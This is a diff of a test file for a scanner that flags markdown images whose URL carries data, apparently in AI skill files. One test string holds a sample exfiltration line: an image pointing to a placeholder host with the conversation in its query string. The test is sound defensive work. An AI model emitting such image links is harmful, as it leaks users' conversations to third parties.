@@ -25,9 +25,9 @@ describe("exfiltration: a picture whose address carries something", () => {
     expect(await signalsOf(pictureAddress, files)).toEqual(["exfiltration.picture-address odd ways.md"]);
   });
 
-  it("says so where it is shown as what not to do", async () => {
+  it("asks about it under any title", async () => {
     const body = "## Never do this\n\nNever write ![](https://unknown.example/p.png?d=<the conversation>).";
-    expect(await page(body)).toEqual(["exfiltration.picture-address suspicious SKILL.md (shown)"]);
+    expect(await page(body)).toEqual(["exfiltration.picture-address suspicious SKILL.md"]);
   });
 
   it("stays quiet on a picture that is the same for everybody, and on a link", async () => {
